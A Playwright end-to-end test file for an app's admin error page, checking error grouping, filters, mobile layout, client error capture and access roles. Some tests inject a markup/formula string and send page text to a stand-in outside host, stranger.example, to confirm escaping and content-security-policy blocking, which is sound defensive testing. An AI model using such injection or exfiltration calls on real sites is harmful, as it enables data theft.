import assert from 'node:assert/strict';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { addPerson } from '../../../adapters/postgres/identity/index.js';
import { recordErrors } from '../../../adapters/postgres/index.js';
import { createErrorCollector, createLogger } from '../../../adapters/telemetry/index.js';
import { BrewlineError } from '../../../domain/kernel/errors.js';
import { composeClientErrors } from '../../../infra/compose/clientErrors.js';
import { startApi, type TestApi } from '../../support/api.js';
import { launchChromium } from '../../support/chromium.js';
import { silentLogger } from '../../support/silentLogger.js';
import { until } from '../../support/until.js';
import { fillBrewhouse } from '../../support/web/brewhouse.js';
import { logInAt, seriousFindings, watchComplaints, webFolder } from '../../support/web/pages.js';
import { errorIds, fillErrors } from '../../support/web/someErrors.js';

const traceId = '0af7651916cd43dd8448eb211c80319c';

describe('the page of errors', () => {
  let api: TestApi;
  let clientErrors: ReturnType<typeof composeClientErrors> | undefined;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let complaints: string[];

  before(async function () {
    browser = await launchChromium(this);
    api = await startApi({
      webFolder,
      clientErrors: (pool) => {
        const logger = silentLogger;
        clientErrors = composeClientErrors({ pool, databaseUrl: '', logger, everyMs: 100 });
        return clientErrors;
      },
    });
  });
  beforeEach(async () => {
    await api.pool.query('truncate operations.error_group, operations.error_hour, operations.error_unkept');
    context = await browser.newContext({ viewport: { width: 1440, height: 900 }, locale: 'en-GB' });
    page = await context.newPage();
    complaints = watchComplaints(page);
  });
  afterEach(async () => {
    await context.close();
    assert.deepEqual(complaints, []);
  });
  after(async () => {
    await browser?.close();
    await clientErrors?.stop();
    await api?.stop();
  });

  /** A role logs an error, and reports what it collected. */
  async function failInIngest(): Promise<void> {
    const collector = createErrorCollector();
    const logger = createLogger({
      ...{ role: 'ingest', level: 'info', destination: { write: () => undefined } },
      onLine: (line) => collector.take(line),
    });
    logger.info({ trace_id: traceId, deviceId: 'keg-1' }, 'received a message');
    const err = new BrewlineError('EVENT_STORE_UNAVAILABLE', 'the store did not answer within 5 s');
    logger.error({ trace_id: traceId, deviceId: 'keg-1', err }, 'could not store');
    await recordErrors(api.pool, 'ingest', collector.drain());
  }

  const rows = () => page.locator('.error-rows li');
  const shown = async (count: number) => {
    await until(`${count} groups`, async () => (await rows().count()) === count);
  };

  it('shows an error of a role with its trace and lines, which is resolved and comes back', async () => {
    await failInIngest();
    await logInAt(page, `${api.url}/admin`, 'admin', api.password);
    await page.getByRole('link', { name: 'Errors', exact: true }).click();
    await rows().getByText('EVENT_STORE_UNAVAILABLE').click();
    const detail = page.locator('.error-detail');
    await detail.getByText(traceId, { exact: true }).waitFor();
    await detail.getByText('keg-1', { exact: true }).waitFor();
    await detail.getByText('received a message').waitFor();
    await detail.getByText('err.code: EVENT_STORE_UNAVAILABLE').waitFor();
    await detail.getByText(/^\s+at .*failInIngest/).waitFor();
    assert.match(page.url(), /\/admin\/errors\?id=[0-9a-f]{16}$/);
    assert.deepEqual(await seriousFindings(page), []);
    await detail.getByRole('button', { name: 'Resolve' }).click();
    await detail.getByRole('button', { name: 'Reopen' }).waitFor();
    await page.getByText('No error waits for you').waitFor();
    await failInIngest();
    await page.getByRole('button', { name: 'Show the latest' }).click();
    await rows().getByText('came back').waitFor();
    assert.equal(await rows().locator('.numerals').innerText(), '2');
  });

  it('keeps its filter in the address and in the command', async () => {
    await fillErrors(api.pool);
    await logInAt(page, `${api.url}/admin/errors`, 'admin', api.password);
    await shown(3);
    await page.getByText('1,250 more errors of the last 30 days were counted only.').waitFor();
    await page.getByLabel('State').selectOption('all');
    await page.getByLabel('Role').selectOption('ingest');
    await page.getByLabel('Search').fill('CHANNEL');
    await page.getByRole('button', { name: 'Find' }).click();
    await shown(1);
    await page.getByText('brewline error list --all --role ingest --search CHANNEL').waitFor();
    await page.reload();
    await shown(1);
    await page.getByRole('link', { name: 'Clear filters' }).click();
    await shown(3);
  });

  it('is a list and then one error on a phone, and shows hostile texts as text', async () => {
    await fillErrors(api.pool);
    await page.setViewportSize({ width: 390, height: 844 });
    await logInAt(page, `${api.url}/admin/errors`, 'admin', api.password);
    await shown(3);
    await rows().getByText('<b>=cmd()').first().click();
    await page.locator('.error-detail h2').waitFor();
    assert.equal(await page.locator('.error-list').isVisible(), false);
    const text = await page.locator('.error-detail').innerText();
    assert.match(text, /<b>=cmd\(\)⟨U\+202E⟩⟨U\+009B⟩xxx/);
    assert.equal(await page.locator('.errors b').count(), 0);
    assert.equal(await page.evaluate('document.documentElement.scrollWidth'), 390);
    assert.deepEqual(await seriousFindings(page), []);
    await page.getByRole('link', { name: 'All errors' }).click();
    await page.locator('.error-list').waitFor();
    assert.equal(await page.evaluate('document.documentElement.scrollWidth'), 390);
  });

  it('shows what nobody caught in a page of a client, by the place in its sources', async () => {
    await fillErrors(api.pool);
    await logInAt(page, `${api.url}/admin/errors?id=${errorIds.broker}&search=none`, 'admin', api.password);
    const copy = page.locator('.error-detail').getByRole('button', { name: 'Copy' });
    await copy.waitFor();
    await page.evaluate(`navigator.clipboard.writeText = () => { throw new TypeError('no "clipboard"'); }`);
    await copy.click();
    await page.evaluate(`void Promise.reject(new Error('a text of somebody'))`);
    await page.goto(`${api.url}/admin/errors?role=admin`);
    await until('both came', async () => {
      await page.getByRole('button', { name: 'Show the latest' }).click();
      return (await rows().count()) === 2;
    });
    await rows().getByText('TypeError').click();
    const detail = page.locator('.error-detail');
    await detail.getByText(/adapters\/web\/shared\/components\/CopyButton\.tsx$/).waitFor();
    await detail.getByText('path: /admin/errors', { exact: true }).waitFor();
    const { rows: stored } = await api.pool.query<{ all: string }>(
      `select string_agg(example, '') as all from operations.error_group where 'admin' = any(roles)`,
    );
    assert.doesNotMatch(stored[0]?.all ?? '', /a text of somebody|search=none|clipboard/);
    assert.deepEqual(complaints.splice(0), ['no "clipboard"', 'a text of somebody']);
  });

  it('shows what the content security policy refused to a page of each client, by ids and paths only', async () => {
    const password = (await addPerson(api.pool, 'berta', 'brewer')) ?? '';
    const { rows: people } = await api.pool.query<{ person_id: string }>(
      `select person_id from identity.person where login = 'berta'`,
    );
    await fillBrewhouse(api.pool, 'berta', people[0]!.person_id, Date.now());
    await logInAt(page, `${api.url}/machines/keg-3?search=somebody`, 'berta', password);
    await page.getByRole('heading', { name: 'keg-3' }).first().waitFor();
    await page.evaluate(
      `document.body.append(Object.assign(new Image(), { src: 'https://stranger.example/?text=of-somebody' }))`,
    );
    const examples = async () => {
      const { rows: stored } = await api.pool.query<{ example: string }>(
        `select example from operations.error_group order by roles`,
      );
      return stored.map(({ example }) => JSON.parse(example) as Record<string, unknown>);
    };
    await until('the one of the app came', async () => (await examples()).length === 1);

    await context.clearCookies();
    await logInAt(page, `${api.url}/admin/errors?search=somebody`, 'admin', api.password);
    await page.getByRole('button', { name: 'Show the latest' }).waitFor();
    await page.evaluate(
      `void fetch('https://stranger.example/?text=of-somebody', { method: 'POST', body: 'of-somebody' }).catch(() => {})`,
    );
    await until('the one of admin came', async () => (await examples()).length === 2);
    const refused = (role: string, name: string, place: object) => ({
      ...{ level: 'error', role, ...place, err: { type: name, message: '', stack: name } },
      msg: 'a page was refused something by the content security policy',
    });
    assert.deepEqual(
      (await examples()).map(({ time: _time, ...example }) => example),
      [
        refused('admin', 'connect-src', { path: '/admin/errors' }),
        refused('app', 'img-src', { path: '/machines/keg-3', deviceId: 'keg-3' }),
      ],
    );
    await page.getByRole('link', { name: 'Clear filters' }).click();
    await shown(2);
    await rows().getByText('img-src').click();
    await page.locator('.error-detail').getByText('keg-3', { exact: true }).waitFor();
    // Chromium says so of each, and may say it twice.
    for (const said of complaints.splice(0)) assert.match(said, /Content Security Policy/);
  });

  it('is for operators and admins only, on the server and in the rail', async () => {
    await fillErrors(api.pool);
    const password = (await addPerson(api.pool, 'analyst', 'analyst')) ?? '';
    await logInAt(page, `${api.url}/admin/errors?id=${errorIds.broker}`, 'analyst', password);
    await page.getByText('Your role does not show this page').waitFor();
    assert.equal(await page.getByRole('link', { name: 'Errors', exact: true }).count(), 0);
    for (const path of ['', `/${errorIds.broker}`])
      assert.equal(await page.evaluate(`fetch('/api/v1/errors${path}').then(({ status }) => status)`), 403);
    // Chromium says so of each.
    await until('both were said', () => complaints.length === 2);
    for (const said of complaints.splice(0)) assert.match(said, /403/);
  });
});
